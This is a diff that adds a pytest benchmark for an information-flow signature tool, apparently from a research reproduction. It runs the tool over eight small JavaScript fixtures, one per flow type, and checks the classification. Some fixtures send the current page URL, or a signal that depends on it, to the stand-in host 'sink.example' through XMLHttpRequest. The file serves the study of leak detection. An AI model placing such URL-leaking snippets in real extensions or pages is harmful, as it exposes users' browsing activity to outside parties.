@@ -1,0 +1,85 @@
+"""Benchmark: one end-to-end pipeline run per Figure 4 lattice point.
+
+The flow-type gallery (see tests/signatures/test_flow_type_gallery.py)
+is also a benchmark: each row times the full pipeline on the minimal
+program exhibiting exactly that flow type, and asserts the
+classification — a per-lattice-row regeneration of Figure 4's meaning.
+"""
+
+import pytest
+
+from repro.api import infer_signature
+from repro.signatures import FlowType
+
+SEND_FIXED = """
+var req = new XMLHttpRequest();
+req.open("GET", "https://sink.example/ping", true);
+req.send(null);
+"""
+
+GALLERY = {
+    FlowType.TYPE1: (
+        """
+        var req = new XMLHttpRequest();
+        req.open("GET", "https://sink.example/?u=" + content.location.href, true);
+        req.send(null);
+        """
+    ),
+    FlowType.TYPE2: (
+        """
+        var store = {};
+        store[someKey()] = content.location.href;
+        var req = new XMLHttpRequest();
+        req.open("GET", "https://sink.example/?v=" + store[otherKey()], true);
+        req.send(null);
+        """
+    ),
+    FlowType.TYPE3: (
+        'window.addEventListener("load", function (e) {\n'
+        'if (content.location.href == "secret.example") {' + SEND_FIXED + "}\n"
+        "}, false);"
+    ),
+    FlowType.TYPE4: (
+        'if (content.location.href == "secret.example") {' + SEND_FIXED + "}"
+    ),
+    FlowType.TYPE5: (
+        'window.addEventListener("load", function (e) {\n'
+        'if (content.location.href == "skip.example") { return; }'
+        + SEND_FIXED
+        + "}, false);"
+    ),
+    FlowType.TYPE6: (
+        "try {\n"
+        'if (content.location.href == "skip.example") { throw "skip"; }'
+        + SEND_FIXED
+        + "} catch (e) {}"
+    ),
+    FlowType.TYPE7: (
+        'window.addEventListener("load", function (e) {\n'
+        "try {\n"
+        'if (content.location.href == "trip.example") { maybeUndefined.prop = 1; }'
+        + SEND_FIXED
+        + "} catch (e2) {}\n}, false);"
+    ),
+    FlowType.TYPE8: (
+        "try {\n"
+        'if (content.location.href == "trip.example") { maybeUndefined.prop = 1; }'
+        + SEND_FIXED
+        + "} catch (e) {}"
+    ),
+}
+
+
+@pytest.mark.table("figure4")
+@pytest.mark.parametrize(
+    "flow_type", list(GALLERY), ids=[t.value for t in GALLERY]
+)
+def test_flow_type_gallery(benchmark, flow_type):
+    source = GALLERY[flow_type]
+    signature = benchmark(infer_signature, source)
+    url_types = {
+        entry.flow_type
+        for entry in signature.flows
+        if entry.source == "url" and entry.sink == "send"
+    }
+    assert url_types == {flow_type}
